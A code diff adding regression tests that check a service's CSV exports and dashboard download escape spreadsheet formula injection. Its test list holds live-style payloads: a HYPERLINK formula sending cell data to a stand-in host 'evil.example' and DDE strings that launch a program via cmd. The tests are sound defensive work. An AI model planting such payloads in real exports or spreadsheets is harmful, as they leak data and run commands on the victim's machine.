@@ -120,3 +120,89 @@ def test_a_cron_that_never_fires_is_422_naming_the_field(live: Live) -> None:
         assert api.get("/v1/schedules").json()["schedules"] == []
 
 
+# --- M5: CSV formula injection ------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tx",
+]
+# A leading carriage return is escaped too (app/csv_cells.py, the dashboard); Python's csv writer with "\n"
+# line ends does not quote a CR, so the service's CSVs are checked without one (a CR inside a cell is a
+# framing problem of those writers, apart from formula injection).
+CR = "\rx"
+
+
+def test_csv_cell_rule() -> None:
+    from app.csv_cells import safe_cell
+
+    for text in [*FORMULAS, CR, "-", "+", "=", "@"]:
+        assert safe_cell(text) == "'" + text
+    for kept in (-0.5, -3, True, None, "-0.5", "+3", "-1e-05", ".5", "plain", "a=b", ""):
+        assert safe_cell(kept) == kept
+
+
+def test_records_csv_escapes_formula_cells_and_keeps_negative_numbers(live: Live) -> None:
+    """A finished audit's per-record table whose record text is a tenant's data (inserted directly: the
+    science's own records are covered by its tests)."""
+    from app.db import audits as audit_rows
+    from app.db import keys
+    from app.db.engine import make_engine, make_session_factory
+    from app.db.models import AuditState
+
+    with live.client("m5") as api:
+        engine = make_engine(f"sqlite:///{live.state / 'iclaudit.db'}")
+        with make_session_factory(engine).begin() as session:
+            tenant = keys.get_or_create_tenant(session, "m5")
+            audit = audit_rows.add_audit(session, tenant_id=tenant.id, kind="mia", request={"kind": "mia"})
+            audit.state = AuditState.SUCCEEDED
+            audit.result = {
+                "records": [
+                    {"rank": i + 1, "record_id": f"r{i}", "gap_mean": -0.5, "auc": 0.5, "text": text}
+                    for i, text in enumerate([*FORMULAS, "-0.5", "plain"])
+                ]
+            }
+            audit_id = audit.id
+        engine.dispose()
+        response = api.get(f"/v1/audits/{audit_id}/records", params={"format": "csv"})
+    assert response.status_code == 200, response.text
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    print([r["text"] for r in rows], [r["gap_mean"] for r in rows][:2])
+    assert [r["text"] for r in rows] == [*("'" + f for f in FORMULAS), "-0.5", "plain"]
+    assert all(r["gap_mean"] == "-0.5" for r in rows)  # a negative number stays a number
+
+
+def test_sweep_result_csv_escapes_formula_cells(live: Live) -> None:
+    values = [*FORMULAS[:4], "-1"]
+    with live.client("m5-sweep") as api:
+        sweep = api.post("/v1/sweeps", json={"base": bound_request(), "grid": {"labels.x": values}})
+        assert sweep.status_code == 202, sweep.text
+        sweep_id = sweep.json()["id"]
+        deadline = time.monotonic() + 60
+        while api.get(f"/v1/sweeps/{sweep_id}").json()["state"] not in ("SUCCEEDED", "FAILED", "CANCELLED"):
+            assert time.monotonic() < deadline
+            time.sleep(0.1)
+        text = api.get(f"/v1/sweeps/{sweep_id}/result.csv").text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    print([r["labels.x"] for r in rows])
+    assert [r["labels.x"] for r in rows] == [*("'" + v for v in FORMULAS[:4]), "-1"]
+    assert all(float(r["epsilon_lower"]) >= 0 for r in rows)
+
+
+def test_dashboard_download_csv_escapes_formula_cells() -> None:
+    """app/ui/static/js/api.js `toCsv`, run by node as the browser would."""
+    script = (
+        f"import {{ toCsv }} from {json.dumps((ROOT / 'app/ui/static/js/api.js').as_uri())};\n"
+        f"const rows = {json.dumps([[f'f{i}', v] for i, v in enumerate([*FORMULAS, CR])])};\n"
+        "rows.push(['neg', -0.5], ['negtext', '-0.5'], ['=key', 1]);\n"
+        "process.stdout.write(toCsv(rows));\n"
+    )
+    out = subprocess.run(
+        ["node", "--input-type=module", "-e", script], capture_output=True, check=True
+    ).stdout.decode()  # bytes: text mode would turn the CR into a newline
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    print(rows)
+    assert [r[1] for r in rows[1 : len(FORMULAS) + 2]] == ["'" + f for f in [*FORMULAS, CR]]
+    assert rows[-3:] == [["neg", "-0.5"], ["negtext", "-0.5"], ["'=key", "1"]]
